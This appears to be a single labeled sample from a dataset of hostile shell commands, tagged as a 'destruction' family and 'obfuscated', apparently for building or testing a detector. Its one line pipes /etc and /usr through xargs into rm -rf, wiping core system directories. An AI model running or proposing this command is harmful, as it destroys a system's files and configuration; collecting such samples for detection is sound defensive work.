# description: Feeds /etc and /usr to rm -rf through xargs from a static echo.
# family: destruction
# obfuscated: yes
echo /etc /usr | xargs rm -rf
